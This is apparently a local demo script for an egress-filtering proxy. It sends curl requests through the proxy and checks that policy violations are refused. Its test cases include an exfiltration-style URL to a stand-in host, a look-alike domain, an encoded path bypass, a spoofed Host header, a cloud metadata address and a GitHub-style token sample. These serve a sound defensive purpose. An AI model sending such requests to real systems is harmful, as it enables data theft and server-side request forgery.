#!/usr/bin/python3
"""./dev run: the cage at work, on loopback alone. An origin, a policy that lets little through, the proxy, and a handful
of requests with curl. Prints each decision as it comes, ends with 1 when one of them is not what it should be."""
import http.server
import json
import os
import signal
import ssl
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "integration"))

from cagelib.log import txn_text  # noqa: E402
from cagelib.pki import Pki  # noqa: E402
from cagelib.proxy import Cage  # noqa: E402

POLICY = """version: 1
name: demo
rules:
  - id: api
    hosts: [api.demo.test]
    methods: [GET, POST]
    paths: [/v1/**]
  - id: no-keys
    action: deny
    hosts: [api.demo.test]
    paths: [/v1/keys/**]
  - id: careless
    hosts: [localhost]
    ports: [80]
upstream:
  resolve: {{api.demo.test: "127.0.0.1:{port}"}}
  trust: ["{ca}"]
tests:
  - {{request: GET https://api.demo.test/v1/models, expect: allow, rule: api}}
  - {{request: GET https://evil.test/, expect: deny}}
"""

# what it shows, arguments of curl, expected status and reason
REQUESTS = (
    ("allowed", ["https://api.demo.test/v1/models"], 200, ""),
    ("allowed, with a body", ["-d", '{"ask":"hello"}', "https://api.demo.test/v1/messages"], 200, ""),
    ("a key in a body", ["-d", '{"note":"it is 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"}',
                         "https://api.demo.test/v1/messages"], 403, "secret.detected"),
    ("the same in base64", ["-d", "Z2hwX0pxZXFKZ1RtamJ2MldOTTViSWV1cDI5c2FwN0hwMTRDZ3FXUQ==",
                            "https://api.demo.test/v1/messages"], 403, "secret.detected"),
    ("name not allowed", ["https://evil.test/collect?data=secret"], 403, "host.not_allowed"),
    ("name with a look-alike tail", ["https://api.demo.test.evil.test/v1/models"], 403, "host.not_allowed"),
    ("method not allowed", ["-X", "DELETE", "https://api.demo.test/v1/models"], 403, "method.not_allowed"),
    ("path not allowed", ["https://api.demo.test/admin"], 403, "path.not_allowed"),
    ("path denied by a rule", ["https://api.demo.test/v1/keys/1"], 403, "rule.denied"),
    ("path denied, in disguise", ["https://api.demo.test/v1/keys%2f1"], 403, "rule.denied"),
    ("spoofed Host", ["-H", "Host: other.test", "https://api.demo.test/v1/models"], 403, "authority.mismatch"),
    ("private address by name", ["http://localhost/"], 403, "address.private"),
    ("cloud metadata address", ["http://169.254.169.254/latest/"], 403, ("host.not_allowed", "address.private")),
    ("plain http to an https rule", ["http://api.demo.test/v1/models"], 403, "port.not_allowed"),
)


class Origin(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def answer(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b'{"from":"the origin"}\n'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_DELETE = answer


def start_origin(pki):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Origin)
    leaf = pki.leaf("api.demo.test")
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(leaf.cert, leaf.key)
    server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def curl(cage, args):
    """Status and body of what curl got."""
    done = subprocess.run(["curl", "-sS", "--max-time", "10", "-w", "\n%{http_code} %{http_connect}", *args], env=cage.env(),
                          capture_output=True, text=True, timeout=20)
    body, _, codes = done.stdout.rpartition("\n")
    status, connect = (int(x) for x in codes.split())
    return status or connect, body or done.stderr.strip()


def told(status, body):
    """Reason, rule and txn as the client reads them."""
    try:
        refusal = json.loads(body)
    except ValueError:
        return body[:40] if status != 200 else "", "", ""
    return refusal.get("reason", ""), refusal.get("rule", ""), refusal.get("txn", "")


def rule_of(cage, path):
    """A served request says its rule in the log only."""
    line = cage.log.wait(event="request", decision="allow", path=path)
    return line["rule"], txn_text(line["txn"])


def show(cage):
    form = "%-28s %-7s %-20s %-9s %s"
    print(form % ("REQUEST", "STATUS", "REASON", "RULE", "TXN"))
    wrong = []
    for title, args, want_status, want_reason in REQUESTS:
        status, body = curl(cage, args)
        reason, rule, txn = told(status, body)
        if status == 200:
            rule, txn = rule_of(cage, args[-1].split("demo.test", 1)[1])
        print(form % (title, status, reason or "allowed", rule or "-", txn or "-"), flush=True)
        if status != want_status or (reason != want_reason and reason not in want_reason):
            wrong.append("%s: expected %s %s, got %s %s" % (title, want_status, want_reason, status, body))
    return wrong


def main():
    scratch = tempfile.mkdtemp(prefix="cage-demo.")
    pki = Pki(os.path.join(scratch, "origin"), "demo origin CA")
    port = start_origin(pki)
    cage = Cage(scratch, POLICY.format(port=port, ca=pki.ca_pem))
    print("cage-proxy on 127.0.0.1:%d, policy %s, an origin of our own behind it\n" % (cage.port, cage.policy_path))
    try:
        wrong = show(cage)
    finally:
        code = cage.stop()
    lines = cage.log.raw_lines()
    print("\nEvery decision is in %s (%d lines; remove its directory when done), such as:" %
          (cage.log.path, len(lines)))
    print(next((x.decode() for x in lines if b'"host.not_allowed"' in x), "(no refusal was logged)"))
    for line in wrong + (["cage-proxy ended with %s" % code] if code != 0 else []):
        print("NOT AS IT SHOULD BE: " + line, file=sys.stderr)
    return 1 if wrong or code != 0 else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(128 + signal.SIGINT)
